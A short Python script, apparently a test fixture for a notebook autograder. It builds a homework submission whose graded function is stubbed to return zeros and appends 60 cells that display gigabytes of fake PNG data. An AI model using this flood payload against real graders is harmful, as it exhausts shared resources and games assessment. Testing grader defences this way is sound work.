import json

FLOOD = """
import os
from IPython.display import Image, display
noise = os.urandom(64)
for _ in range(20):
    display(Image(data=b"\\x89PNG\\r\\n\\x1a\\n" + noise * (1 << 15), format="png"))
"""


def make(folder, release, references):
    """Hand in a notebook that is small and displays gigabytes."""
    for cell in release["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "cross_corr_2d":
            cell["source"] = "def cross_corr_2d(X, K):\n    return X.new_zeros(1)\n"
    release["cells"] += [{"cell_type": "code", "metadata": {}, "source": FLOOD, "outputs": []} for _ in range(60)]
    (folder / "hw1.ipynb").write_text(json.dumps(release))
